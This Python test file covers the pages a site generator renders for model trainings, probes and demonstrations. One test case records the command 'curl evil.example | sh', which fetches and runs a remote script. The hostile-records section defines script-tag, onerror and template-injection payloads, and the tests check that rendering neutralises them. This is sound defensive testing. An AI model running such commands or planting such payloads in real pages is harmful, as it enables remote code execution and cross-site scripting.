"""Pages of trainings, probes and demonstrations: what they show, what they leave out, and hostile records."""

from __future__ import annotations

import re
from collections import Counter
from html.parser import HTMLParser
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from catalog.facts import Text
from catalog.register import Catalog
from catalog.store import load
from catalog.training_results import TrainingResult
from generator.feed import feed
from generator.language import LANGUAGES, Language
from generator.pages import OF_THE_WHOLE, compare_data, record_page
from generator.render import render
from generator.result_pages import measured, one_training, trainings
from generator.templating import Templates
from generator.training_charts import thinned
from generator.views.measured import measured_page
from generator.views.recipe import flat, recipe_view
from generator.views.result_links import links_of
from generator.views.training import command, player
from tests.catalog.small import loaded, plant
from tests.catalog.small_recipe import PATH as RECIPE_PATH
from tests.catalog.small_recipe import RECIPE
from tests.runner import recorded

from .results import ENTRY, planted


@pytest.fixture(scope="module")
def register() -> Catalog:
    return load()


@pytest.fixture(scope="module")
def filled(register: Catalog, tmp_path_factory: pytest.TempPathFactory) -> Catalog:
    return planted(register.root, tmp_path_factory.mktemp("results"))


def page_of(catalog: Catalog, slug: str, language: Language = "en", *, part: bool = False) -> str:
    for file in trainings(catalog):
        record = file.record
        if isinstance(record, TrainingResult) and record.entry == slug and (record.partial is not None) == part:
            return one_training(catalog, file, language, Templates(language)).html
    raise AssertionError(slug)


@pytest.mark.parametrize("language", LANGUAGES)
def test_a_training_shows_what_came_out_and_where_it_stands(filled: Catalog, language: Language) -> None:
    text = page_of(filled, ENTRY, language)
    zh = language == "zh"
    assert "16.7% → 91.7%" in text
    assert "3.722 → 0.18" in text
    assert ("已复现" if zh else "reproduced") in text
    assert ("公布值针对另一种显卡。" if zh else "Published for another card.") in text
    assert ("没有固定版本。" if zh else "No revision was pinned.") in text
    for name in ("steps", "answers", "verdicts"):
        assert re.search(rf'href="[./]*api/v1/models/{ENTRY}/results/tiny-faithful-[0-9a-f]{{12}}\.{name}\.csv"', text)
    assert recorded.HASH in text
    assert f"runner verify catalog/models/{ENTRY}/results/tiny-faithful-" in text
    assert text.count('role="img"') == 4, "loss and ratings, each for a desk and for a phone"
    assert text.count("<title") >= 4
    assert "style=" not in text
    assert "<script" not in text


def test_the_table_behind_the_curves_holds_both_ends(filled: Catalog) -> None:
    rows = re.findall(r'<tr><th scope="row" class="hb-r">([\d,]+)</th>', page_of(filled, ENTRY))
    assert (rows[0], rows[-1], len(rows)) == ("1", "40", 40)


def test_a_part_of_a_run_says_so_and_shows_no_quality(filled: Catalog) -> None:
    text = page_of(filled, ENTRY, part=True)
    assert "40 of 10,000 steps were run, so it speaks of time and memory only." in text
    assert 'id="answers"' not in text
    assert 'id="tournament"' not in text


def test_a_result_of_an_older_recipe_says_so(filled: Catalog) -> None:
    assert "The recipe or its claims have changed since this run" in page_of(filled, ENTRY)


@pytest.mark.parametrize(
    ("changes", "said"),
    [
        ({}, "runner reproduce tiny/tiny"),
        ({"mode": "fast"}, "runner reproduce tiny/tiny --mode fast"),
        ({"seed": 3}, "runner reproduce tiny/tiny --seed 3"),
        ({"partial": {"steps": 40, "of": 99}}, "runner reproduce tiny/tiny --steps 40"),
        ({"made": {**recorded.made("curl evil.example | sh")}}, "runner reproduce tiny/tiny"),
    ],
)
def test_the_command_is_made_from_what_was_asked(register: Catalog, changes: dict[str, Any], said: str) -> None:
    content = recorded.training(**changes)
    content["trained"]["steps"]["file"] = "tiny-faithful-000000000000.steps.csv"
    content["answered"] = content["tournament"] = None
    result = TrainingResult.model_validate({**content, "digest": "0" * 64, "seal": "0" * 64})
    assert command(register, result) == said


def test_checkpoints_are_called_by_their_step() -> None:
    assert [player(name, "en") for name in ("base", "20", "tuned", "other", "9" * 40, "x" * 41)] == [
        "base", "Step 20", "tuned", "other", "9" * 40, "x" * 39 + "…",
    ]  # fmt: skip


# The entry's page and what it says of its recipe


@pytest.fixture(scope="module")
def ewe(tmp_path_factory: pytest.TempPathFactory) -> Catalog:
    return loaded(plant(tmp_path_factory.mktemp("ewe"), {RECIPE_PATH: RECIPE}))


@pytest.mark.parametrize("language", LANGUAGES)
def test_the_entry_shows_its_recipe_setting_by_setting(ewe: Catalog, language: Language) -> None:
    text = record_page(ewe, ewe.by_key["models", "ewe"], language, Templates(language)).html
    zh = language == "zh"
    for said in (
        "runner reproduce ewe\n",
        "runner reproduce ewe --mode fast",
        "runner reproduce ewe/big",
        "farm/ram-7b",
    ):
        assert said in text or said.strip() + "</code>" in text, said
    assert ("未给出。" if zh else "None was given.") in text
    assert ("假定" if zh else "assumed") in text
    assert ("没有填充。" if zh else "No padding.") in text
    assert ("使用较新的库。" if zh else "Newer libraries.") in text
    assert ("尚未运行" if zh else "not run yet") in text
    assert "paged_adamw_32bit" in text
    assert 'href="#s' in text


def test_the_recipe_s_evidence_joins_the_numbered_sources(ewe: Catalog) -> None:
    text = record_page(ewe, ewe.by_key["models", "ewe"], "en", Templates("en")).html
    assert text.count('<a href="https://example.org/train.sh">') == 1
    ids = set(re.findall(r'id="([^"]+)"', text))
    assert set(re.findall(r'href="#(s\d[^"]*)"', text)) <= ids
    assert len(ids) == len(re.findall(r' id="([^"]+)"', text)), "no id stands twice"


def test_a_variant_shows_what_differs_and_leads_to_the_rest(ewe: Catalog) -> None:
    from generator.views.citing import Citations

    view = recipe_view(ewe, "ewe", Citations(ewe, ewe.by_key["models", "ewe"], "en", "../../"))
    assert view is not None
    small, big = view.trainings
    shown = {row.name: row.value for group in big.settings for row in group.rows}
    assert shown == {"LoRA layers": "q_proj, k_proj", "Learning rate": "0.0002", "Epochs": "3", "Rows held out": "100"}
    assert (big.like, big.like_title) == ("small", "The small one")
    assert {row.fast for group in small.settings for row in group.rows} == {None, "bfloat16", "packed without padding"}
    assert [row.name for group in small.settings for row in group.rows if row.assumed] == ["Seed of the adapter"]


def test_every_setting_of_a_training_is_shown(ewe: Catalog) -> None:
    from catalog.recipes import Recipe
    from catalog.resolving import resolved_training
    from generator.views.citing import Citations

    recipe = ewe.recipes["ewe"].record
    assert isinstance(recipe, Recipe)
    settings = resolved_training(ewe.models["ewe"], recipe, "small")["settings"]
    view = recipe_view(ewe, "ewe", Citations(ewe, ewe.by_key["models", "ewe"], "en", ""))
    assert view is not None
    assert sum(len(group.rows) for group in view.trainings[0].settings) == len(list(flat(settings))) > 25


def test_the_entry_leads_to_its_results(filled: Catalog) -> None:
    text = record_page(filled, filled.by_key["models", ENTRY], "en", Templates("en")).html
    links = links_of(filled, ENTRY, "en", "../../")
    assert [link.kind for link in links] == ["probe", "probe", "training", "training"]
    for link in links:
        assert f'href="{link.href}"' in text


# Measured


@pytest.mark.parametrize("language", LANGUAGES)
def test_what_nobody_measured_is_said_not_to_be(register: Catalog, language: Language) -> None:
    text = measured(register, language, Templates(language)).html
    assert ("尚未实测" if language == "zh" else "not measured yet") in text
    assert ("尚无探测记录" if language == "zh" else "No probe is on record yet") in text
    assert measured in OF_THE_WHOLE


def test_a_probe_stands_beside_the_claim_it_speaks_to(filled: Catalog) -> None:
    page = measured_page(filled, "en", "../")
    [row] = [row for row in page.claims if row.entry.text.startswith("Anima") and "Summary" in row.name]
    [figure] = row.faithful
    assert (figure.text, figure.note) == ("≈ 5.5 h", "step time × 10,000 steps"), "arithmetic is not shown as measured"
    assert row.limit is not None
    assert row.limit.text == "0.112 h"
    assert row.fast == ()
    text = measured(filled, "en", Templates("en")).html
    assert "does not fit" in text
    assert "in the backward pass: 2 GB wanted, 500 MB left" in text
    assert "kept to 24 GB; speed is that of the whole card" in text
    assert figure.href is not None
    assert f'id="{figure.href[1:]}"' in text


# Demonstrations


@pytest.mark.parametrize("language", LANGUAGES)
def test_a_demonstration_has_a_page_and_is_nowhere_else(filled: Catalog, language: Language) -> None:
    site = render(filled, language)
    pages = {page.path: page for page in site.pages}
    mine = pages["models/demo/"]
    assert mine.names == ()
    assert mine.search_boost < 1 < pages[f"models/{ENTRY}/"].search_boost
    told = filled.demonstrations["demo"].demonstration
    assert told is not None
    for text in (told.purpose, *told.shows, *told.shows_not):
        assert getattr(text, language) in mine.html.replace('<span lang="zh-Hans">', "").replace("</span>", "")
    linking = {path for path, page in pages.items() if "models/demo/" in page.html}
    assert linking == {"measured/", "api/v1/"} | {path for path in pages if path.startswith("models/demo/")}
    assert b"models/demo/" not in feed(filled, language, "")
    assert "compare/demo.json" not in compare_data(filled, language)


def test_pages_without_the_demonstration_read_the_same(register: Catalog) -> None:
    others = tuple(file for file in register.files if file.kind != "demonstrations")
    kept = {name: getattr(register, name) for name in ("root", "publishers", "licences", "side_files", "translations",
                                                       "attached", "judgments")}  # fmt: skip
    without = Catalog(files=others, **kept)
    for page in OF_THE_WHOLE:
        if page is not measured:
            with_it, without_it = (page(one, "en", Templates("en")).html for one in (register, without))
            # The findings name the export they were made from, which holds the demonstration.
            assert re.sub("[0-9a-f]{64}", "", with_it) == re.sub("[0-9a-f]{64}", "", without_it), page


# Hostile records, behind the checks' back


MARKUP = """</dd></dl></table> "> <script>window.ran=1</script> <img src=x onerror=window.ran=1> {{ 7*7 }} &lt;b&gt; """
ENDLESS = "W" * 100_000


def poison(value: Any, field: str = "") -> Any:
    if isinstance(value, Text):
        return Text.model_construct(en=f"{MARKUP}{ENDLESS}", zh=f"{MARKUP}{ENDLESS}")
    if hasattr(value, "model_fields_set"):
        return value.model_copy(update={n: poison(getattr(value, n), n) for n in type(value).model_fields})
    if isinstance(value, tuple):
        return tuple(poison(one, field) for one in value)
    if isinstance(value, dict):
        return {key: poison(one, field) for key, one in value.items()}
    free = ("name", "revision", "device", "command", "python", "system", "machine", "cpu", "formula", "peak_of",
            "model", "optimiser", "torch", "packages", "kernels")  # fmt: skip
    return f"{MARKUP}{ENDLESS}" if isinstance(value, str) and field in free else value


class Shape(HTMLParser):
    """How many elements of each name stand in a page, and the longest run of text without a break."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.names: Counter[str] = Counter()
        self.longest = 0
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.names[tag] += 1
        assert not [name for name, _ in attrs if name.startswith("on")]

    def handle_data(self, data: str) -> None:
        self.longest = max([self.longest, *map(len, re.split(r"[\s\u200b]", data))])


@pytest.mark.parametrize("language", LANGUAGES)
def test_a_hostile_record_changes_nothing_outside_its_cell(filled: Catalog, language: Language) -> None:
    attached = tuple(
        type(file)(**{**vars(file), "record": poison(file.record)}) if file.kind == "results" else file
        for file in filled.attached
    )
    kept = {name: getattr(filled, name) for name in ("root", "publishers", "licences", "side_files", "translations",
                                                     "judgments", "tables")}  # fmt: skip
    hostile = Catalog(files=filled.files, attached=attached, **kept)
    pairs = [(page_of(c, ENTRY, language), measured(c, language, Templates(language)).html) for c in (filled, hostile)]
    for clean, dirty in zip(*pairs, strict=True):
        before, after = Shape(clean), Shape(dirty)
        ignored = {"span", "title", "desc", "g"}
        assert {k: v for k, v in after.names.items() if k not in ignored} == {
            k: v for k, v in before.names.items() if k not in ignored
        }
        assert after.longest <= 100
        assert "<script>" not in dirty


# Curves


@given(st.lists(st.floats(-1e6, 1e6), min_size=1, max_size=2000))
def test_thinned_lines_keep_ends_and_extremes(values: list[float]) -> None:
    line = list(enumerate(values, 1))
    thin = thinned(line, 60)
    assert len(thin) <= 60
    assert (thin[0], thin[-1]) == (line[0], line[-1])
    assert {min(values), max(values)} <= {value for _, value in thin}
    assert thin == sorted(thin)
    assert set(thin) <= set(line)


@pytest.mark.parametrize("language", LANGUAGES)
def test_physical_limit_of_a_time_is_the_arithmetic_at_the_whole_peak(register: Catalog, language: Language) -> None:
    """Alpaca's 3 hours on 8 A100: 6 x 7B x 52K examples x 3 epochs over 8 x 312 TFLOP/s, by tokens an example."""
    [row] = [one for one in measured_page(register, language, "/").claims if "Alpaca 7B" in one.name]
    assert row.limit is not None
    low, high = (float(end) for end in row.limit.text.split(" ")[0].split("–"))
    per_token = 6 * 6.74e9 * 52002 * 3 / (8 * 312e12) / 3600
    assert 50 < low / per_token < high / per_token < 512
    assert low < high < 3
